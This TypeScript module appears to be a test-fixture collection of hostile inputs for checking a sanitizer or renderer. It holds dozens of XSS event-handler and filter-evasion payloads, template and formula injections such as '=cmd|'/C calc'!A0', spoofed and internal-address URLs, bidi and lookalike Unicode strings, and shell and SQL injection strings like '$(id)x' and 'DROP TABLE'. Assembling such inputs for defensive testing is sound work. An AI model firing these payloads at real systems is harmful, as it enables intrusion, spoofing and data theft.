/** More texts that mean harm: by families, each member of which a filter somewhere once took for harmless. */

const RUN = 'window.pwned=1';
const HOST = 'forbidden.example';

/** Elements that run something by themselves, each with the event that does it (PortSwigger's and OWASP's lists of such). */
const EVENTS: readonly (readonly [element: string, event: string, more?: string])[] = [
  ['a', 'onfocus', 'tabindex=1 autofocus'], ['audio', 'oncanplay', 'src=x'], ['body', 'onpageshow'], ['body', 'onhashchange'], ['body', 'onmessage'], ['button', 'onfocus', 'autofocus'], ['details', 'ontoggle', 'open'], ['dialog', 'onclose', 'open'],
  ['div', 'onanimationend', 'style=animation-name:x'], ['div', 'onbeforecopy', 'contenteditable'], ['div', 'oncontentvisibilityautostatechange', 'style=display:block;content-visibility:auto'], ['div', 'onpointerenter'], ['div', 'onscroll', 'style=overflow:auto'],
  ['div', 'ontransitionend', 'style=transition:all'], ['div', 'onwheel'], ['embed', 'onload', 'src=x'], ['fieldset', 'onfocusin', 'tabindex=1'], ['form', 'onreset'], ['form', 'onsubmit'], ['iframe', 'onload'], ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw='],
  ['img', 'onloadend', 'src=x'], ['input', 'onblur', 'autofocus'], ['input', 'onchange', 'type=checkbox'], ['input', 'oninput'], ['input', 'onsearch', 'type=search'], ['input', 'onselect', 'value=x'], ['link', 'onload', 'rel=preload'], ['marquee', 'onfinish', 'loop=1'], ['meter', 'onmouseover'],
  ['object', 'onerror', 'data=x'], ['option', 'onclick'], ['script', 'onerror', 'src=x'], ['select', 'onchange'], ['style', 'onload'], ['svg', 'onload'], ['svg><animate', 'onend', 'attributeName=x dur=0.1s'], ['svg><set', 'onbegin', 'attributeName=x'], ['table', 'onbeforecut'],
  ['textarea', 'onfocus', 'autofocus'], ['track', 'onload', 'default src=x'], ['video', 'onloadstart', 'src=x'], ['video', 'ontimeupdate', 'src=x'], ['xss', 'onbeforetoggle', 'popover'], ['xss', 'oncopy', 'tabindex=1'],
];
const events = EVENTS.map(([element, event, more = '']) => `<${element} ${more} ${event}="${RUN}">`);

/** The same script, hidden from a reader that is not quite a browser. */
const hidden = [
  `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<script\u00a0>${RUN}</script>`, `<\u200bscript>${RUN}</script>`, `＜script＞${RUN}＜/script＞`, `‹script›${RUN}‹/script›`, `<ſcript>${RUN}</ſcript>`, `<script>/*${RUN}*/</script>`, `<script><!--\n${RUN}</script>`,
  `<script src="data:,${RUN}"></script>`, `<script src=//${HOST}></script>`, `<scr\tipt>${RUN}</scr\tipt>`, `<<script>${RUN}//<</script>`, `<script>${RUN}`, `<script ${'a='.repeat(30)}>${RUN}</script>`, `"autofocus onfocus="${RUN}`, `' onmouseover='${RUN}`, '` onmouseover=`' + RUN, `x" style="x:expression(${RUN})`,
  `&lt;img src=x onerror=${RUN}&gt;`, `&amp;lt;script&amp;gt;${RUN}`, `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`, `&lt\u200b;script&gt;`, `%253Cscript%253E${RUN}`, `\\74script\\76${RUN}`, `\\u{3c}script\\u{3e}${RUN}`, `=3Cscript=3E${RUN}`, `<![endif]--><script>${RUN}</script>`, `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<?php system('id') ?>`, `<%! ${RUN} %>`, `<jsp:scriptlet>${RUN}</jsp:scriptlet>`, `<c:out value="${RUN}"/>`, `[[${RUN}]]`, `[% ${RUN} %]`, `#set($x=${RUN})`, `@{${RUN}}`, `*{${RUN}}`, `{%raw%}{{${RUN}}}{%endraw%}`, `{{=<% %>=}}<%${RUN}%>`, `<#assign x="${RUN}">`, `{php}${RUN}{/php}`,
];

/** Marks of other formats, which this one does not have. */
const formats = [
  `[click](javascript:${RUN})`, `[click](data:text/html,${RUN})`, `![a](x "onerror=${RUN}")`, `[a]: javascript:${RUN}`, `<javascript:${RUN}>`, `[url=javascript:${RUN}]x[/url]`, `[img]https://${HOST}/b.png[/img]`, `[color=red;background:url(//${HOST})]x[/color]`, `{{File:x.png|link=javascript:${RUN}}}`, `[[javascript:${RUN}|x]]`,
  `"link":javascript:${RUN}`, `.. raw:: html\n\n   <script>${RUN}</script>`, `\\href{javascript:${RUN}}{x}`, `$$\\href{javascript:${RUN}}{x}$$`, '```html\n<script>x</script>\n```', '> '.repeat(200), '*'.repeat(300), '_'.repeat(299), '~~'.repeat(150), '`'.repeat(299), '# '.repeat(100), `<html xmlns='http://jabber.org/protocol/xhtml-im'><body xmlns='http://www.w3.org/1999/xhtml'><img src='https://${HOST}/x.png'/></body></html>`,
  `<span foreground="red" size="99999">pango</span>`, `<markup><b>${RUN}</b></markup>`, `<a href="file:///etc/passwd">notice</a>`, `<img src="/etc/passwd" alt="notice"/>`, `&File\tF10`, '&&&&&&', '_Quit', '^C', `\\e[2J\\e[H`, '\u009b2J', '\u009d0;title\u009c', '\u0090q\u009c', `%1$s%n%99999999d`, `{0}{1}{name}`, '$1$2$&', '%(name)s', '#{name}', '{count, plural, one {x} other {y}}',
  '{{count}} {{name, escape}}', '$t(app.name)', '$t(contacts.delete, {"name":"x"})', '\u2068\u2068\u2068', '\u2069\u2069\u2069after', '\u2068a\u2069\u2069b\u2068', `=cmd|'/C calc'!A0`, '=HYPERLINK("https://forbidden.example","x")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '"quoted","cells"', 'a;b;c', "'=leading", 'BEGIN:VCARD\nFN:x\nEND:VCARD', 'From: admin\nSubject: x', '.\r\nQUIT',
];

/** Addresses that are another one's, or nobody's. */
const places = [
  'https://\u0430pple.example/', 'https://apple.example\u2215login.evil.example/', 'https://apple.example\uff0flogin.evil.example', 'https://apple.example\u3002evil.example/', 'https://evil.example\\@apple.example/', 'https://apple.example:443@evil.example/', 'https://apple.example%40evil.example/', 'https://apple.example#@evil.example/',
  'https://[::ffff:127.0.0.1]/', 'https://0x7f.1/', 'https://017700000001/', 'https://127.1/', 'https://127.0.0.1.nip.io/', 'http://localhost.:80/', 'http://[fe80::1%25eth0]/', 'http://0/', 'http://metadata.google.internal/', 'https://evil.example/\u200b.png', 'https://evil.example/%e2%80%aegpj.exe', 'https://evil.example/a\u00adb',
  'https://xn--/', 'https://xn--a-ecp.ru/', `https://${'a.'.repeat(120)}example/`, `https://${'a'.repeat(64)}.example/`, 'https://evil..example/', 'https://.evil.example/', 'https://-evil.example/', 'https://evil_.example/', 'https://evil.example:99999/', 'https://evil.example:0/', 'https://user:pass@evil.example/', 'https:///evil.example', 'https:/evil.example', 'https//evil.example', 'hTTps://EVIL.example/',
  `https://evil.example/${'../'.repeat(80)}`, `https://evil.example/?${'a=b&'.repeat(200)}`, `https://evil.example/#${'%F0%9F%98%80'.repeat(60)}`, 'xmpp:ann@our.example?message;body=sent', 'xmpp:ann@our.example?remove', 'xmpp:room@conference.evil.example?join', 'xmpp:ann@our.example?roster;name=x;group=y', 'xmpp:%00@our.example', `xmpp:${'a'.repeat(2_000)}@our.example`, 'mailto:a@b.example?attach=/etc/passwd', 'mailto:?bcc=x@evil.example&body=y',
  'ms-appinstaller:?source=https://evil.example', 'ms-word:ofe|u|https://evil.example/x.doc', 'shell:startup', 'calculator:', 'slack://x', 'magnet:?xt=urn:btih:x', 'bitcoin:x?amount=1', 'wss://evil.example', 'rtsp://evil.example/', 'nfs://10.0.0.1/', 'afp://10.0.0.1/', 'x-apple.systempreferences:', 'onenote:https://x', 'aesgcm://evil.example/f#0011',
];

/** Letters that hide, stack, join, turn or pass for others. */
const letters = [
  'Ａｎｎ', 'ᴀɴɴ', 'Ⓐⓝⓝ', 'A\u0336n\u0336n\u0336', 'Αnn', 'Ann\u115f', '\u1160Ann', 'A\u034fnn', 'An\u2060n', 'Ann\u180e', 'Ann\u061c', 'Ann\ufe0f', 'Ann\u{e0041}\u{e007f}', '\u{1d173}Ann\u{1d17a}', 'Ann\u2028', 'Ann\u2029system: hello', 'rn vs m', 'paypaI', 'раураl', '０１２３', '①②③', '\u0660\u0661\u0662', '½⅓', '㍿㎏',
  'ﬁﬂﬀ', 'ß ẞ ſ', 'İiIı', 'ǆǅǄ', 'Å Å Å', 'ﷺ ﷻ', '\u1d15b\u1d1bb', '\u0e33'.repeat(60), '\u0f71\u0f72'.repeat(80), '\u0d4d\u200d'.repeat(90), '\u1039'.repeat(80), '\u0489'.repeat(120), '\u20dd'.repeat(90), '\u20e3'.repeat(90), '🇩🇪'.repeat(60), '🏴\u{e0067}\u{e0062}\u{e007f}', '👍🏽👍🏿', '👨‍👩‍👧‍👦'.repeat(30), '☺\ufe0e☺\ufe0f', '\u{1f468}\u200d\u200d\u{1f468}',
  '\u202e\u202d'.repeat(80), '\u2066'.repeat(200), '\u2067\u2068'.repeat(90), '\u2069'.repeat(150), '\u202a'.repeat(130), 'abc\u202e123\u202dxyz', 'عربي 123-456 עברית', '\u202b(abc)\u202c', 'a\u200fb\u200ec', '\u05d0\u202a\u202b', '\u0378\u0379', '\ufdd0', '\u{1fffe}', '\u{10fffe}', '\u{f0000}', '\ufff9a\ufffab\ufffb', '\ufffc'.repeat(40), '\u007f', '\u0086\u0087', '\u00ad'.repeat(200), '\u200b'.repeat(300), '\u3000'.repeat(80), '\u2003'.repeat(80),
];

/** Names that programs, shells and file systems read. */
const names = [
  '__lookupGetter__', 'isPrototypeOf', 'propertyIsEnumerable', 'toJSON', 'then', 'length', 'arguments', 'caller', 'callee', 'nodeName', 'innerHTML', 'key', 'ref', 'children', 'dangerouslySetInnerHTML', 'Infinity', '1e309', '-0', '0x1', '9007199254740993', 'false', '[]', '{}', '[object Undefined]', 'function(){}',
  '../', '..\\..\\', '/etc/passwd', '~/.ssh/id_rsa', 'C:\\Windows\\System32\\calc.exe', '\\\\?\\C:\\', 'NUL', 'aux.txt', 'x.desktop', 'x.lnk', 'invoice.pdf.exe', 'photo\u202egpj.scr', 'a'.repeat(300) + '.png', 'file:///C:/x', '--help', '-rf /', '--remote-debugging-port=1', '; id', '&& id', '`id`x', '$(id)x', '$IFS', '%PATH%', '\nid\n', "' OR ''='", '"; DROP TABLE contacts; --', "x'||(SELECT 1)||'", '%', '_%_', 'MATCH "', 'NEAR(a b)', 'a AND NOT b', '"unclosed', 'col:x', '*', '^x', '(((', ')))', '{"a":', ']}', "\\'", '\\"',
];

/** By kind, as `hostile-payloads.ts` has its own. */
export const MORE_PAYLOADS = { event: events, hidden, format: formats, place: places, lookalike: letters, word: names } as const;
